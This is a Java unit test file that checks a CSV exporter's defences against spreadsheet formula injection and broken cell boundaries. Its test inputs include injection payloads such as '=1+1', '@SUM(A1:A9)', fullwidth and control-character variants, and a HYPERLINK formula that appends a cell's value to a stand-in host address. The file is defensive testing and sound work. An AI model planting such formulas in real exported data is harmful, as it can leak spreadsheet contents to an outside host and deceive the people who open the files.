// SPDX-License-Identifier: GPL-3.0-or-later
package org.entente.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.entente.query.AnswerHead;
import org.entente.query.Column;
import org.entente.query.Query;
import org.entente.query.ValueType;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Cells that a spreadsheet would run, or that would break the table.
class CsvFormatTests {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")",
                "+1+1",
                "-1+1",
                "-5",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\r\n=1+1",
                "＝1+1",
                "＋1+1",
                "－1+1",
                "＠SUM(A1:A9)",
                "="
            })
    void whatASpreadsheetWouldRunIsText(String hostile) throws IOException {
        assertThat(cell(hostile)).isEqualTo("'" + hostile);
        assertThat(cell(List.of(hostile))).isEqualTo("'" + hostile);
        assertThat(cell(List.of(hostile, "Paris"))).isEqualTo("'" + hostile + "; Paris");
    }

    /// Only the beginning of a cell is run.
    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A1"})
    void withinACellItIsHarmless(String hostile) throws IOException {
        assertThat(cell("a" + hostile)).isEqualTo("a" + hostile);
        assertThat(cell(List.of("Paris", hostile))).isEqualTo("Paris; " + hostile);
        assertThat(cell(Map.of("name", hostile))).startsWith("{\"name\":\"");
        assertThat(cell(Map.of(hostile, 1L))).startsWith("{\"");
        assertThat(cell(List.of(Map.of("name", hostile)))).startsWith("{\"name\":\"");
    }

    /// A cell that ends early would let the next one begin as the source likes.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "say \"no\"",
                "\",=1+1",
                "\"\r\n=1+1",
                "a,b",
                "a;=1+1",
                "two\nlines",
                "two\r\nlines",
                "a\r=1+1",
                "\"",
                " "
            })
    void aCellStaysOneCell(String text) throws IOException {
        assertThat(cell(text)).isEqualTo(text);
        assertThat(cell(List.of(text))).isEqualTo(text);
    }

    static Stream<Arguments> valuesThatAreNoText() {
        return Stream.of(
                Arguments.of(5L, "5"),
                Arguments.of(-5L, "-5"),
                Arguments.of(Long.MIN_VALUE, "-9223372036854775808"),
                Arguments.of(-0.5, "-0.5"),
                Arguments.of(1.0E10, "1.0E10"),
                Arguments.of(true, "true"));
    }

    @ParameterizedTest
    @MethodSource("valuesThatAreNoText")
    void aNumberStaysANumber(Object value, String written) throws IOException {
        assertThat(cell(value)).isEqualTo(written);
        assertThat(raw(value)).isEqualTo("name,value\r\nParis," + written + "\r\n");
    }

    @Test
    void nothingIsAnEmptyCell() throws IOException {
        assertThat(raw(null)).isEqualTo("name,value\r\nParis,\r\n");
        assertThat(cell(List.of())).isEmpty();
    }

    /// RFC 4180 has no byte order mark, and a reader that does not expect it takes it for a letter of the first
    /// name.
    @Test
    void theFirstByteIsTheFirstLetter() throws IOException {
        assertThat(raw("Żółć")).startsWith("name,").contains("Paris,Żółć").doesNotContain("\uFEFF");
    }

    private static String cell(@Nullable Object value) throws IOException {
        List<CsvRecord> records =
                CsvReader.builder().ofCsvRecord(raw(value)).stream().toList();
        assertThat(records)
                .hasSize(2)
                .allSatisfy(record -> assertThat(record.getFields()).hasSize(2));
        assertThat(records.getLast().getField(0)).isEqualTo("Paris");
        return records.getLast().getField(1);
    }

    private static String raw(@Nullable Object value) throws IOException {
        var query = new Query(
                "cells",
                "Cells",
                "Gives cells.",
                List.of(),
                List.of(new Column("name", ValueType.STRING, "A name"), new Column("value", ValueType.MAP, "A value")),
                List.of(),
                null,
                "",
                "cypher/queries/cells.cypher",
                "1");
        var head = new AnswerHead(query, Map.of(), LocalDate.EPOCH, LocalDate.EPOCH, "empty", "", null, null);
        var out = new ByteArrayOutputStream();
        Format.Writing writing = new CsvFormat().begin(head, out);
        Map<String, @Nullable Object> row = new LinkedHashMap<>();
        row.put("name", "Paris");
        row.put("value", value);
        writing.row(row);
        writing.end(false, null);
        return out.toString(UTF_8);
    }
}
